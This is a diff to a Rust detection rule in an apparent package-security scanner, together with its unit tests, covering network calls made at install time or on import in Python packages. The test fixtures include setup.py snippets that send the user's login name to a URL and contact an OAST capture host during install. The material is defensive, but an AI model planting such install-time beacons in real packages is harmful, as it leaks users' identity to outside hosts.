@@ -21,9 +21,12 @@ declare_rule! {
     ///
     /// ## False positives
     /// Old `setup.py` files that download a native library at build time:
-    /// a fetch over https from a named host, with nothing about the machine in
-    /// the request, is `medium`; one whose URL guard cannot read stays `high`
-    /// (`review`). Import-time version checks are `medium`.
+    /// a fetch over https from a named host, or from a URL the build computes,
+    /// with nothing about the machine in the request, is `medium` (what runs the
+    /// download is download-execute's business); plain http, an untrusted host
+    /// or query data guard cannot read stay `high` (`review`). Import-time
+    /// version checks are `medium`, and so are sends on import to an address
+    /// that is configuration rather than a literal.
     InstallNetwork, id = "install-network", severity = High,
     summary = "network access at install time (setup.py, .pth) or on import"
 }
@@ -51,10 +54,16 @@ impl Rule for InstallNetwork {
             // (A public-IP lookup on import is reconnaissance too.)
             let shady = call.arg_strs.iter().find_map(|a| vocab::endpoint_kind(a));
             // Sending (not fetching) on import: something is being reported somewhere.
-            let sends = [".post", ".put", ".send", ".sendall", ".sendto"]
-                .iter()
-                .any(|m| call.name.ends_with(m));
-            if shady.is_some() || (sends && call.stage == Stage::Import) {
+            let sends = vocab::is_send(&call.name);
+            // A send on import to an address the code spells out: something reports in.
+            // One whose address is configuration (`f"{self.base_url}/x"`, a socket
+            // handed in) is a client doing its job once it is called; what it sends
+            // is the exfiltration rule's business (issue 11).
+            let literal_endpoint = call.arg_strs.iter().any(|a| {
+                a.split_once("://")
+                    .is_some_and(|(_, rest)| !rest.is_empty() && !rest.split('/').next().unwrap_or("").contains("{}"))
+            });
+            if shady.is_some() || (sends && call.stage == Stage::Import && literal_endpoint) {
                 severity = severity.raise();
             }
             // A build fetching its inputs (a native library, a data file) over https from a
@@ -67,8 +76,22 @@ impl Rule for InstallNetwork {
                 let host_unknown = rest.split('/').next().is_some_and(|h| h.contains("{}"));
                 vocab::untrusted_host(a).is_none() && !query_unknown && !host_unknown
             });
+            // The same fetch with a URL the build computes (`urlretrieve(url, dest)` in a
+            // download helper): what it fetches is unknown, but nothing leaves the machine
+            // and nothing here runs it (download-execute reports a launch).
+            // Only where the install code reads nothing about the machine (a request
+            // helper fed `getpass.getuser()` elsewhere is a probe) and names no
+            // untrusted endpoint the URL could be (an OAST host in a variable).
+            let computed = !call.arg_strs.iter().any(|a| a.contains("://"))
+                && !unit.code.calls.iter().any(|c| {
+                    c.stage == Stage::Install && vocab::is_host_identity(&c.name) && c.name != "os.getcwd"
+                })
+                && !unit.code.strings.iter().any(|l| {
+                    l.value.contains("://")
+                        && (vocab::endpoint_kind(&l.value).is_some() || vocab::untrusted_host(&l.value).is_some())
+                });
             if call.stage == Stage::Install
-                && https_named
+                && (https_named || computed)
                 && !sends
                 && shady.is_none()
                 && !call
@@ -123,6 +146,34 @@ mod tests {
             )],
         );
         assert_eq!((f.len(), f[0].severity), (1, Severity::High), "a send on import");
+        // A client sending to the address it was configured with, reached on import
+        // (an SDK flushing at exit): what it sends is the exfiltration rule's business.
+        let f = check(
+            &InstallNetwork,
+            Kind::Wheel,
+            &[(
+                "pkg/__init__.py",
+                "import requests, atexit\ndef flush():\n    requests.post(f'{STATE.url}/v1/events', json=QUEUE)\natexit.register(flush)\n",
+            )],
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
+        // A download helper of the build with a computed URL: medium.
+        let f = setup_py(
+            &InstallNetwork,
+            "import urllib.request\ndef fetch(url, dest):\n    urllib.request.urlretrieve(url, dest)\nfetch(mirror() + name, 'lib.tgz')\n",
+        );
+        assert_eq!(f[0].severity, Severity::Medium, "{f:?}");
+        // …but not in install code that reads who the user is, or names a capture service.
+        let f = setup_py(
+            &InstallNetwork,
+            "import urllib.request, getpass\ndef fetch(url, data):\n    urllib.request.urlopen(url, data)\nfetch(U, getpass.getuser())\n",
+        );
+        assert_eq!(f[0].severity, Severity::High, "{f:?}");
+        let f = setup_py(
+            &InstallNetwork,
+            "import urllib.request\nU = 'https://x1y2.oast.fun'\ndef fetch(url):\n    urllib.request.urlopen(url)\nfetch(U + '/p')\n",
+        );
+        assert!(f[0].severity >= Severity::High, "{f:?}");
         // Build inputs fetched over https from a named host: medium; with unknown query data: high.
         let f = setup_py(
             &InstallNetwork,
